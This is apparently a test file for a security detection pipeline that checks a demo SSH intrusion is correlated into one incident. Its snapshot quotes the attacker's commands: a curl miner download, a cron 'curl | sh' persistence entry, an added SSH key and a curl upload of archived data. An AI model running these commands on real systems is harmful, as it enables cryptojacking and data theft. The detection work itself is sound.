import { sshIntrusion } from "@xdr/catalog";
import { correlate } from "@xdr/correlate";
import { expect, test } from "vitest";
import { decodeStory, findingsOf } from "./pipeline-for-tests.ts";

/** The demo's story through decode, detect and correlate, with the catalog's own rules. */
const startMs = Date.UTC(2026, 10, 24, 4, 27, 0);

test("ordinary traffic raises nothing", async () => {
  const events = await decodeStory(sshIntrusion.ordinary, startMs);
  expect(events.length).toBeGreaterThan(200);
  expect(findingsOf(events)).toEqual([]);
});

test("every line of the story is decoded", async () => {
  const events = await decodeStory(sshIntrusion.lines, startMs);
  expect(events.filter((event) => event.undecoded !== undefined)).toEqual([]);
});

test("the intrusion is one incident that tells what happened", async () => {
  const findings = findingsOf(await decodeStory(sshIntrusion.lines, startMs));
  const incidents = correlate(findings);
  expect(incidents).toHaveLength(1);
  const [incident] = incidents;
  expect(incident?.findingIds).toHaveLength(findings.length);
  expect(incident?.severity).toBe(5);
  expect(incident?.title).toMatchInlineSnapshot(
    `"SSH brute force led to login as deploy on web-1, then execution, persistence, stealth and 5 others"`,
  );
  expect(incident?.tactics).toEqual(
    // Reconnaissance, initial access, execution, persistence, defense evasion, credential access,
    // discovery, collection, command and control, exfiltration, impact.
    [43, 1, 2, 3, 5, 6, 7, 9, 11, 10, 40].map((id) => `TA${String(id).padStart(4, "0")}`),
  );
  expect(incident?.story.map((step) => step.sentence)).toMatchInlineSnapshot(`
    [
      "Port scan: 10 events within 2 seconds from 203.0.113.77 to 192.0.2.10. Last: 203.0.113.77 was kept from connecting to 192.0.2.10:443.",
      "Failed SSH logins in quick succession: 5 events within 1 second from 203.0.113.77. Last: Login as oracle on web-1 from 203.0.113.77 failed: invalid user.",
      "Failed SSH logins from one address over hours: 10 events within 3 seconds from 203.0.113.77. Last: Login as admin on web-1 from 203.0.113.77 failed: invalid user.",
      "SSH brute force: 10 events within 3 seconds from 203.0.113.77. Last: Login as admin on web-1 from 203.0.113.77 failed: invalid user.",
      "SSH login after brute force: deploy logged in to web-1 from 203.0.113.77.",
      "Looking around on a Linux machine: 3 events within 2 seconds on web-1. Last: deploy ran “cat /etc/passwd” on web-1.",
      "Download into a temporary or hidden folder: deploy ran “curl -fsSL http://cdn.example.net/k/xmrig -o /tmp/.x/kworkerd” on web-1.",
      "File in a temporary folder made executable: deploy ran “chmod +x /tmp/.x/kworkerd” on web-1.",
      "Crypto miner command line: deploy ran “/tmp/.x/kworkerd -o stratum+tcp://pool.example.net:3333 --donate-level 1” on web-1.",
      "Program started from a temporary or hidden folder: deploy ran “/tmp/.x/kworkerd -o stratum+tcp://pool.example.net:3333 --donate-level 1” on web-1.",
      "Mining traffic reported by the network sensor: Suricata reported “COINMINER stratum login observed” from web-1 to 198.51.100.99:3333.",
      "Crontab replaced: The crontab of deploy was changed on web-1 by deploy.",
      "Crontab written by a command: deploy ran “bash -c (crontab -l; echo "*/5 * * * * curl -fsSL http://cdn.example.net/k/r | sh") | crontab -” on web-1.",
      "SSH key added by a command: deploy ran “bash -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEx4 k >> /home/deploy/.ssh/authorized_keys” on web-1.",
      "Archive of user or web data in a temporary folder: deploy ran “tar czf /tmp/.x/d.tgz /var/www /home/deploy” on web-1.",
      "File sent out by a command-line tool: deploy ran “curl -s -T /tmp/.x/d.tgz http://198.51.100.23/up/” on web-1.",
      "Large upload to the internet: web-1 connected to 198.51.100.23:80 and sent 50 MB.",
    ]
  `);
});
